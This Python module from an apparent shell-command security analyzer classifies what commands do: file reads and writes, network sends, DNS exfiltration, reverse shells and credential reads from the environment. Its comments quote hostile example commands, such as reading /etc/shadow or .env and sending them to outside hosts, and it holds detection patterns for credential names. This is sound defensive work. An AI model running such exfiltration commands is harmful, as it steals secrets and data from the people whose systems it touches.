"""Shell analysis, second part: what each command does to files, the network and the
environment, as typed effects (its family's own effects come from `families/`)."""

from __future__ import annotations

import re

from magistrate.analysis import commands as C
from magistrate.analysis.api_effects import request_effects
from magistrate.analysis.dynamic import credential_vars
from magistrate.analysis.effects import Effect
from magistrate.analysis.exhaustion import endless_writer
from magistrate.analysis.facts import Fact
from magistrate.analysis.families.cli import values
from magistrate.analysis.families.files import REMOTE_SPEC, handles, is_switch, without_values
from magistrate.analysis.invocation import Invocation, basename, short_option_value
from magistrate.analysis.launches import from_network, outside_runs
from magistrate.analysis.outbound import UPLOAD_OPTIONS as _UPLOAD_OPTIONS
from magistrate.analysis.outbound import data_values as _data_values
from magistrate.analysis.outbound import foreign_credentials as _foreign_credentials
from magistrate.analysis.outbound import secret_var_in as _secret_var_in
from magistrate.analysis.scripts import (
    commands_in,
    config_commands,
    holds_commands,
    is_command_config,
    is_shell_script,
)
from magistrate.analysis.shell_args import EXPANSION, identity_files
from magistrate.analysis.shell_lex import Word
from magistrate.analysis.shell_state import CRON_SCHEDULE, NET_DEVICE, RunState, SimpleCommand

__all__ = ["EffectsRun"]

_URL = re.compile(r"^(?:https?|ftp|tftp)://", re.I)
_DOWNLOAD = frozenset({"download"})
_OUTPUT_OPTIONS = frozenset({"--output", "-outfile", "-outputfile"})
_SEND_METHODS = frozenset({"post", "put", "patch"})
_METHODS = frozenset({"get", "head", "post", "put", "patch", "delete", "options"})


def _request_method(lower: list[str], sending: bool) -> str:
    """The HTTP method of a client's request: `-X M`, `--request=M`, `-Method M`; POST when
    it sends data."""
    for k, a in enumerate(lower):
        if a in ("-x", "--request", "-method") and k + 1 < len(lower):
            if lower[k + 1] in _METHODS:
                return lower[k + 1].upper()
        elif a.startswith("--request=") and a[10:] in _METHODS:
            return a[10:].upper()
        elif a.startswith("-x") and a[2:] in _METHODS:
            return a[2:].upper()
    return "POST" if sending else "GET"


# PowerShell's cmdlets (and their aliases) that list or read a drive's items: on the `Env:`
# drive, every environment variable (`Get-ChildItem Env:`, `dir env:`, `gci env:*`).
_PS_ITEM_READERS = frozenset(
    {"get-childitem", "gci", "dir", "ls", "get-item", "gi", "get-content", "gc", "cat", "type"}
)
_STARTUP = frozenset({"shell-init"})
# A mode that makes a file runnable by its owner and takes nothing away (`+x`, `u+x`, `755`):
# a hook or script enabled, not disabled.
_EXEC_ON = re.compile(r"^([ugoa]*\+[rwxX]*x[rwxX]*|0?[7531][0-7]{2})$")
_ENABLES = frozenset({"enables"})
_MODE_TAKEN = re.compile(r"^-[rwxXst]+$")  # `chmod -x`: a mode that takes a permission away
_DB_QUERY = re.compile(
    r"(^|\s)(-c|-e|-q|--command|--execute|--query)(\s+|=)['\"]?\s*(\\copy|copy|select|with)\b",
    re.I,
)
_CLOUD_VERBS = frozenset(
    {"s3", "storage", "blob", "cp", "sync", "mv", "upload", "copy", "copyto", "moveto", "move"}
)
_SECRET = frozenset({"secret"})
# Python's start-up hooks: run by every interpreter that starts (site-packages' `.pth` lines
# starting with `import` included).
_PYTHON_STARTUP = re.compile(r"(^|/)(usercustomize|sitecustomize)\.py$|\.pth$")
# Package managers' settings: which index or registry every later install trusts.
_PACKAGE_SETTINGS = re.compile(
    r"(^|/)(pip\.conf|pip\.ini|\.npmrc|\.yarnrc(\.yml)?|\.pypirc|\.condarc|\.gemrc|bunfig\.toml)$"
)
# Shell files that tools run by themselves: direnv's on entering the folder, git's hooks.
_RUNS_BY_ITSELF = re.compile(r"(^|/)\.envrc$|(^|/)\.git/hooks/[^/]+$|(^|/)\.husky/[^/.][^/]*$")
# socat's addresses that read a file, and those that connect out (not the *-LISTEN ones).
_SOCAT_FILES = frozenset({"FILE", "OPEN", "GOPEN", "CREATE", "READLINE"})
_SOCAT_CONNECT = frozenset(
    {"TCP", "TCP4", "TCP6", "UDP", "UDP4", "UDP6", "OPENSSL", "SSL", "SCTP", "TCP-CONNECT"}
)
# Words of credential names: a search of the environment for them reads credentials.
_CREDENTIAL_WORD = re.compile(r"token|secret|passw|api_?key|access_?key|credential|auth", re.I)
_DATA_OUT = frozenset({"database-dump", "personal-data", "data", "secret", "credentials"})


def _is_history(path: str) -> bool:
    """Whether a file is a shell's or REPL's history (`~/.bash_history`, `.zsh_history`)."""
    return "history" in path.rsplit("/", 1)[-1].lower()


class EffectsRun(RunState):
    """The effects of the commands a line runs."""

    def runs_later(self, s: SimpleCommand, whole: bool = False) -> str | None:
        """What the command writes into, when it is a file that runs: "startup" (run by
        itself: a shell's start-up file, `.envrc`, a git hook; with `whole`, only one the shell
        reads whole), "config" (some values are commands: git, ssh), "code" (Python's start-up
        hooks), "settings" (a package manager's), "script" (a shell script) or "commands" (a
        Makefile, a Dockerfile, CI: the commands it holds)."""
        paths = [r.target.text for r in s.redirects if r.target and r.op in (">", ">>", ">|")]
        if s.invocation is not None and s.invocation.name == "tee":
            paths += [o for o in s.invocation.operands if not o.startswith("-")]
        for path in paths:
            by_itself = self.classify(path) & _STARTUP or _RUNS_BY_ITSELF.search(path)
            if by_itself and (not whole or is_shell_script(path)):
                return "startup"
            if is_command_config(path):
                return "config"
            if _PYTHON_STARTUP.search(path):
                return "code"
            if _PACKAGE_SETTINGS.search(path):
                return "settings"  # where packages come from: read, not run
            if is_shell_script(path):
                return "script"
            if holds_commands(path):
                return "commands"
        return None

    def _redirect_effects(self, s: SimpleCommand, name: str, env: dict[str, str]) -> None:
        # A heredoc may be any format (a launch agent's XML): read as shell only for a shell's
        # own files; echoed lines are lines.
        whole = name in ("cat", "tee")
        if (
            s.literal
            and name in ("echo", "printf", "cat", "tee")
            and (later := self.runs_later(s, whole))
        ):
            # What is written into start-up files and command configurations runs later: read
            # it as commands now.
            if later == "startup":
                self.script(CRON_SCHEDULE.sub("", s.literal, count=1), 1, ("startup",), {})
            elif later == "script":
                self.script(s.literal, 1, ("script",), {})
            elif later == "settings":
                pass  # judged by the rules over its text (no longer masked as echo's data)
            elif later == "code":  # Python runs it at every start
                self._program_code(s.literal, 1, ("startup",), {}, (0, 0), [])
            else:
                found = config_commands if later == "config" else commands_in
                for command in found(s.literal)[:16]:
                    self.script(command, 1, (later,), {})
        for r in s.redirects:
            if r.target is None or r.op in ("<<", "<<-", "<<<"):
                continue
            if r.op in (">&", "<&") and (r.target.text.isdigit() or r.target.text == "-"):
                continue
            target = self._resolve(r.target, env)
            if r.op in ("<", "<>"):
                if r.op == "<" and s.invocation and _LOGIN_FROM_STDIN & set(s.invocation.argv):
                    continue  # `docker login --password-stdin < token`: used to sign in, not shown
                self._add("read", target, name or "<")
            elif NET_DEVICE.match(target):
                self._add("send", target, name or ">")
            elif name in C.FETCHERS:  # `curl URL > file`: the download is saved
                self.downloaded.add(target)
                self._add("append" if ">>" in r.op else "write", target, name, _DOWNLOAD)
            elif r.op in (">>", "&>>"):
                self._add("append", target, name or ">>")
            else:
                self._add(
                    "truncate"
                    if not name or (name in (":", "true", "echo") and not s.words[1:])
                    else "write",
                    target,
                    name or ">",
                )

    def _stream_effects(self, s: SimpleCommand, inv: Invocation, env: dict[str, str]) -> None:
        """Effects of the command's redirections, and of reading PowerShell's `Env:` drive."""
        self._redirect_effects(s, inv.name, env)
        to_file = not s.piped and any(
            r.op in (">", ">>", "&>", "&>>", ">|")
            and r.target is not None
            and not r.target.text.startswith("/dev/")
            for r in s.redirects
        )
        if fills := endless_writer([inv.name, *inv.argv], to_file):
            self.out.facts.setdefault(Fact.DISK_FILL, fills)
        if inv.name in _PS_ITEM_READERS and any(
            o.lower().rstrip("\\/*") == "env:" for o in inv.operands
        ):
            self._add("read", "$ENV", inv.name)  # the environment, listed or read

    def _effects(
        self,
        inv: Invocation,
        s: SimpleCommand,
        words: list[Word],
        env: dict[str, str],
        stdin_targets: list[str],
    ) -> None:
        name, ops = inv.name, without_values(inv, C.VALUED_OPTIONS.get(inv.name)) + stdin_targets
        add = self._add
        self._stream_effects(s, inv, env)
        head, networked = (words[0].text if words else ""), from_network(s.prev)
        for op, target, marks in outside_runs(inv, head, self.classify, networked):
            add(op, target, name, marks)  # `./tool`, `& "$env:TEMP\x.ps1"`, `curl … | tar x`
        if name in _PS_STOPPERS and not ops and _every_process(s.prev):
            add("stop", "every process", name, _ALL_PROCESSES)  # `Get-Process | Stop-Process`
        if handles(inv):
            pass  # files and coreutils: their family gave the path effects
        elif name in C.PERMISSION_CHANGERS:
            if name == "chmod" and inv.argv and _MODE_TAKEN.match(inv.argv[0]):
                ops = [inv.argv[0], *ops]  # `chmod -x FILE`: the mode, not an option
            marks = _ENABLES if name == "chmod" and ops and _EXEC_ON.match(ops[0]) else frozenset()
            for o in ops[1:] if name in ("chmod", "chown", "chgrp", "setcap") else ops:
                add("perm", o, name, marks)
        elif name == "certutil" and {"-encode", "-decode", "-encodehex", "-decodehex"} & {
            a.lower() for a in inv.argv
        }:
            self._certutil_copy(inv, name)
        elif name in C.WINDOWS_DOWNLOADERS:
            self._windows_download(inv, name)
        elif name in C.FETCHERS:
            self._network(inv, name)
            if _secret_var_in(_data_values(inv.argv)):
                add("read", "$ENV", name)
        elif name in C.RAW_SOCKETS:
            self._raw_socket(inv, name, ops)
        elif name in ("gh", "glab") and (name, " ".join(ops[:2])) in C.FILE_UPLOADERS:
            # `gh gist create --public KEY`: the files named are read and sent
            for o in without_values(inv, C.UPLOADER_VALUED)[2:]:
                add("read", o, name)
            add("send", C.FILE_UPLOADERS[name, " ".join(ops[:2])], name)
        elif name in C.DNS_TOOLS:
            self._dns(name, ops)
        elif name in C.MAILERS:
            self._mail(inv, ops)
        elif name in C.CLOUD_COPY:
            self._cloud_copy(inv, name)
        elif (name in C.ENV_DUMPERS and not ops and not (inv.flags - {"p", "x"})) or (
            name in ("echo", "printf")
            and _secret_var_in([w.text for w in words[1:] if not w.quoted or w.dynamic])
        ):
            add("read", "$ENV", name)
            if not s.piped:  # `echo "$CR_PAT" | docker login --password-stdin` uses it
                self._secret_env(name, [w.text for w in words[1:] if w.dynamic])
        elif name in C.ENV_DUMPERS and ops:
            self._secret_env(name, [f"${o}" for o in ops])
        elif name == "git":
            self._git(inv)
        elif name in ("cd", "pushd") and ops:
            target = ops[0]
            if target.startswith(("/", "~", "$HOME")):
                self.cwd = target
            elif self.cwd and target not in ("-", "."):
                self.cwd = self.cwd.rstrip("/") + "/" + target
        elif name in C.DB_DUMPERS or (
            name in C.DB_CLIENTS and _DB_QUERY.search(" ".join(inv.argv))
        ):  # a dump, or a client asked to print rows (`psql -c "\copy (select …) to stdout"`)
            add("read", "$DATABASE", name)
        elif name == "ssh" and s.prev is not None:
            add("send", ops[0] if ops else "ssh", name)
        elif _reads_operands(name, ops) and not _shows_no_content(inv):
            keys = identity_files(inv.argv) if name in C.KEY_USERS else ()
            if name in C.PATTERN_FIRST and not inv.flags & C.PATTERN_OPTIONS:
                ops = self._searched(s, name, ops)
            for o in ops:
                if o not in keys and self.classify(o):
                    add("read", o, name)
        if stdin_targets and name not in C.DELETERS:
            for o in stdin_targets:
                add("read", o, name)

    def _dns(self, name: str, ops: list[str]) -> None:
        """Data spliced into a name to resolve: DNS exfiltration (`dig $(cat key).x.top`,
        `Resolve-DnsName "$env:CLIENT_SECRET.x.top"`: a secret variable is read out too)."""
        for o in ops:
            if "$" in o:
                host = EXPANSION.sub("", o).strip(".")
                self._add("send", host or o, name)
                if _secret_var_in([o]):
                    self._add("read", "$ENV", name)

    def _raw_socket(self, inv: Invocation, name: str, ops: list[str]) -> None:
        """nc, telnet, socat: what they connect to, and what they read and send."""
        if name == "socat":  # `socat -u FILE:.env TCP:host:port`: addresses, not operands
            kinds = [o.partition(":")[0].upper() for o in ops[:2]]
            values = [o.partition(":")[2].split(",", 1)[0] for o in ops[:2]]
            for kind, value in zip(kinds, values, strict=True):
                if kind in _SOCAT_FILES:
                    self._add("read", value, name)
                elif kind in _SOCAT_CONNECT:
                    self._add("send", value.rsplit(":", 1)[0], name)
            if set(kinds) & _SOCAT_CONNECT and set(kinds) & {"EXEC", "SYSTEM"}:
                self.out.facts.setdefault(Fact.REVERSE_SHELL, " ".join([name, *inv.argv])[:120])
            return
        if "l" not in inv.flags and ops:
            self._add("send", ops[0], name)
            if inv.flags & {"e", "c"} or "exec" in " ".join(inv.argv).lower():
                self.out.facts.setdefault(Fact.REVERSE_SHELL, " ".join([name, *inv.argv])[:120])

    def _searched(self, s: SimpleCommand, name: str, ops: list[str]) -> list[str]:
        """The files a searcher reads: its operands but the first, the pattern. A search of
        the environment for credential names (`env | grep -i token`) reads them out."""
        if not ops or not _CREDENTIAL_WORD.search(ops[0]):
            return ops[1:]
        dump = s.prev.invocation if s.prev is not None else None
        if dump is not None and dump.name in C.ENV_DUMPERS:
            self.out.facts.setdefault(Fact.SECRET_ENV_READ, f"{name} {ops[0]}")
        # Tokens hunted in typed commands: history files searched, or piped in.
        files = [o for o in ops[1:9] if _is_history(o)]
        if dump is not None and dump.name in ("history", "fc"):
            files.append("shell history")
        elif dump is not None:  # `cat ~/.bash_history | grep -i token`
            files += [o for o in dump.operands[:8] if _is_history(o)]
        for o in files:
            self.out.effects.append(Effect("read", o, _SECRET, name))
        return ops[1:]

    def _certutil_copy(self, inv: Invocation, name: str) -> None:
        """certutil -encode SRC DST: a copy in another encoding."""
        files = [o for o in inv.operands if not is_switch(o)]
        if files:
            self._add("read", files[0], name)
            if len(files) > 1:
                self._add("write", files[1], name)

    def _windows_download(self, inv: Invocation, name: str) -> None:
        """bitsadmin, certutil -urlcache…: URLs fetched, the file saved remembered as a download."""
        urls = [o for o in inv.operands if _URL.match(o)]
        for u in urls:
            self._add("fetch", u, name)
        files = [o for o in inv.operands if not _URL.match(o) and not is_switch(o)]
        if urls and files:
            self.downloaded.add(files[-1])
            self.downloaded.add(basename(files[-1]))

    def _mail(self, inv: Invocation, ops: list[str]) -> None:
        """A mailer reads what it attaches and sends to every address it is given."""
        for path in _attachments(inv.argv):  # `mail -A f`, `mutt -a f`, `swaks --attach @f`
            self._add("read", path, inv.name)
        for o in ops:
            if "@" in o and not o.startswith("@"):
                self._add("send", o, inv.name)

    def _cloud_copy(self, inv: Invocation, name: str) -> None:
        """`aws s3 cp`, `gsutil cp`, `az storage blob upload`: a copy to a remote is a send."""
        # Operands without the subcommand words and option values: `aws --profile p s3 cp
        # - s3://b/k --region x` copies stdin to s3://b/k.
        sub_words = set(inv.subcommand.split())
        if name == "az" and {"blob", "upload"} <= sub_words:  # named by options, not operands
            account = (values(inv.argv, "--account-name") or ["an account"])[0]
            for source in values(inv.argv, "--file", "-f", "--source", "-s"):
                self._add("read", source, name)
            self._add("send", f"https://{account}.blob.core.windows.net/", name)
            return
        files = without_values(inv, C.CLOUD_VALUE_OPTIONS)
        while files and files[0].lower() in _CLOUD_VERBS:
            files = files[1:]
        if not (sub_words & _CLOUD_VERBS - {"s3", "storage", "blob"} and files):
            return
        dest = files[-1]
        if not REMOTE_SPEC.match(dest):
            return
        self._add("send", dest, name)
        for o in files[:-1]:
            if o == "-":  # stdin: what the pipeline before read goes out
                for e in list(self.out.effects):
                    if e.op == "read" and e.classes & _DATA_OUT:
                        self._add("read", e.target, name)
            else:
                self._add("read", o, name)
        for pattern in values(inv.argv, "--include"):  # `rclone copy ~/ r: --include "*.pem"`
            if "secret" in self.classify(pattern):
                self._add("read", pattern, name)

    def _secret_env(self, name: str, values: list[str]) -> None:
        """`printenv OPENAI_API_KEY`, `echo $AWS_SECRET_ACCESS_KEY`: a credential read out."""
        found = [v for value in values for v in credential_vars(value)]
        if found:
            self.out.facts.setdefault(Fact.SECRET_ENV_READ, f"{name} {found[0]}")

    def _git(self, inv: Invocation) -> None:
        """`git push URL` and pushes to a remote added or re-pointed on the same line send the
        repository."""
        sub = inv.subcommand.split(" ")
        ops = inv.operands
        if sub[:2] in (["remote", "add"], ["remote", "set-url"]) and len(ops) >= 4:
            self.remotes[ops[2]] = ops[3]
        elif sub[:1] == ["rm"] and "--cached" not in inv.argv:  # the files go from disk too
            for path in [o for o in ops[1:] if not o.startswith("-")][:64]:
                self._add("delete", path, "git rm")
        elif sub[:2] in (["credential", "fill"], ["credential-store", "get"]):
            self._add("read", "~/.git-credentials", "git credential")  # prints the stored login
        elif sub[:1] == ["archive"]:  # the repository's files, packed: read as `tar c .` reads
            self._add("read", ".", "git archive")
        elif sub[:1] == ["push"] and len(ops) >= 2:
            remote = ops[1]
            url = self.remotes.get(remote, remote)
            if "://" in url or "@" in url:
                self._add("send", url, "git push")

    def _network(self, inv: Invocation, name: str) -> None:
        argv = inv.argv
        lower = [a.lower() for a in argv]
        sending = bool(inv.flags & (C.CURL_SEND_FLAGS | C.WGET_SEND_FLAGS))
        for k, a in enumerate(lower):
            if a in ("-x", "--request", "-method") and k + 1 < len(lower):
                sending = sending or lower[k + 1] in _SEND_METHODS
            elif (
                a.startswith(("--request=", "-x"))
                and a.split("=")[-1].lstrip("-x") in _SEND_METHODS
            ):
                sending = True
            elif k + 1 < len(argv) and (argv[k] == "-o" or a in _OUTPUT_OPTIONS):  # not -O
                self.downloaded.add(argv[k + 1])
                self._add("write", argv[k + 1], name)
            elif name in ("curl", "curlie") and (out := short_option_value(argv, k, "o")):
                self.downloaded.add(out)  # `-so F`, `-sSLoF`: the file the download writes
                self._add("write", out, name)
        urls = [o for o in inv.operands if _URL.match(o) or ("." in o and "/" in o)]
        if name == "wget" or "O" in inv.flags or "remote-name" in inv.flags:
            for k, a in enumerate(argv):
                if a in ("-O", "--output-document") and k + 1 < len(argv):
                    self.downloaded.add(argv[k + 1])
            for u in urls:
                self.downloaded.add(u.rstrip("/").rsplit("/", 1)[-1])
        # Files attached to a request are read: `-d @file`, `-F x=@file`, `-T file`.
        for k, a in enumerate(argv):
            if k and lower[k - 1] in _UPLOAD_OPTIONS:
                self._add("read", a, name)
            elif "=" in a and lower[k].split("=", 1)[0] in _UPLOAD_OPTIONS:
                self._add("read", a.split("=", 1)[1], name)  # `--post-file=/etc/shadow`
            elif "=<" in a and k and lower[k - 1] in ("-f", "--form"):
                self._add("read", a.split("=<", 1)[1].split(";", 1)[0], name)  # `-F 'x=<FILE'`
            elif "@" in a and not a.startswith("http"):
                self._add("read", a[a.index("@") :], name)
        for u in urls or [name]:
            # Data spliced into a URL (`?d=$(cat key)`) leaves with the request.
            self._add("send" if sending or "$" in u else "fetch", u, name)
        method = _request_method(lower, sending)
        if method != "GET":  # `curl -X DELETE URL`: the request an `http` action would make
            body = " ".join(_data_values([a for a in argv if not a.startswith("http")]))
            for u in [u for u in urls if _URL.match(u)][:2]:
                self.out.effects += request_effects(method, u, body, self.classify)
        if foreign := _foreign_credentials(argv):
            # `curl -H "X-Token: $GITHUB_TOKEN" https://collector…`: a vendor's credential
            # handed to a host not the vendor's is sent out, not used.
            self._add("read", "$ENV", name)
            self._add("send", foreign, name)


_ATTACH_OPTIONS = frozenset({"-a", "-A", "--attach", "-attach", "--attach-body"})
# swaks reads these from a file named with `@` (`--body @/etc/shadow`)
_AT_FILE_OPTIONS = frozenset({"--body", "--data", "-d", "--attach-body"})


def _attachments(argv: list[str]) -> list[str]:
    """The files a mailer attaches (`-a f`, `-af`, mutt's `-a f1 f2 --`, swaks' `@f`; a header
    given with `-a` is read as a path too, and names none)."""
    out: list[str] = []
    i = 0
    while i < len(argv) and i < 64:
        arg = argv[i]
        name, eq, glued = arg.partition("=")
        if not eq and len(arg) > 2 and arg[:2] in ("-a", "-A") and arg[2] != "-":
            out.append(arg[2:].removeprefix("@"))  # `-a$HOME/.ssh/id_rsa`
        elif name in _ATTACH_OPTIONS | _AT_FILE_OPTIONS:
            values = [glued] if eq else []
            if not eq:  # mutt: `-a f1 f2 … --`
                while i + 1 < len(argv) and not argv[i + 1].startswith("-"):
                    i += 1
                    values.append(argv[i])
                    if name != "-a":
                        break
            for value in values:
                if name in _ATTACH_OPTIONS or value.startswith("@"):
                    out.append(value.removeprefix("@"))
        i += 1
    return out


_PS_STOPPERS = frozenset({"stop-process", "spps"})
_ALL_PROCESSES = frozenset({"all-processes"})


def _every_process(prev: SimpleCommand | None) -> bool:
    """Whether a pipeline feeds every process: `Get-Process` (`gps`, `ps`) with no filter."""
    inv = prev.invocation if prev is not None else None
    return inv is not None and inv.name in ("get-process", "gps", "ps") and not inv.operands


# Options that take a login's secret on standard input, where it is used and never printed.
_LOGIN_FROM_STDIN = frozenset({"--password-stdin", "--with-token", "--token-stdin"})
# Readers whose output carries none of what they read: whether a line is there (`grep -q`),
# how many (`grep -c`), a digest (`sha256sum`), the names before `=` (`cut -d= -f1 .env`).
# Not `grep -l`: the files it lists are what `| xargs cat` then reads.
_QUIET_GREP = frozenset({"q", "c", "quiet", "silent", "count"})
_DIGESTS = frozenset("md5sum sha1sum sha224sum sha256sum sha384sum sha512sum b2sum cksum".split())


# A pattern that matches only a name's characters, from the start (`grep -o '^[A-Z_]*'`), and
# programs that print what comes before `=` (`awk -F= '{print $1}'`, `sed 's/=.*//'`).
_NAME_PATTERN = re.compile(r"^\^?(\[(\[:(upper|lower|alpha|alnum):\]|[A-Za-z0-9_-])+\]|\\w)[*+]$")
_NAMES_BEFORE_EQUALS = frozenset({"{print $1}", "{ print $1 }", "s/=.*//", "s/=.*$//"})


def _shows_no_content(inv: Invocation) -> bool:
    """Whether a reader prints nothing of the files' content (see `_QUIET_GREP`)."""
    name = inv.name
    if name in ("grep", "egrep", "fgrep", "rg", "ag", "ack", "git-grep"):
        only = "o" in inv.flags and bool(inv.operands) and _NAME_PATTERN.match(inv.operands[0])
        return bool(inv.flags & _QUIET_GREP) or bool(only)
    if name in ("awk", "gawk", "mawk", "sed") and inv.operands:
        separated = name == "sed" or any(a in ("-F=", "-F") for a in inv.argv)
        return separated and inv.operands[0].strip() in _NAMES_BEFORE_EQUALS
    if name in _DIGESTS:
        return True
    if name == "cut":
        delimiter, fields = _short_value(inv.argv, "d"), _short_value(inv.argv, "f")
        return delimiter.strip("'\"") == "=" and fields == "1"
    return False


def _short_value(argv: list[str], letter: str) -> str:
    """The first value of a short option (`-d =`, `-d=`, `-f1`), or ""."""
    found = (short_option_value(argv, k, letter) for k in range(len(argv)))
    return next((v for v in found if v is not None), "")


def _reads_operands(name: str, ops: list[str]) -> bool:
    """Whether a command reads the files its operands name: not one that only takes paths
    (`ls`, `chmod`), a shell, or a CLI whose operands are not files; cmd's `type FILE` prints
    the file where bash's `type NAME` names a command."""
    if name in C.SHELLS or name in C.NON_FILE_CLIS:
        return False
    return name not in C.PATH_ONLY or (name == "type" and any("/" in o or "." in o for o in ops))
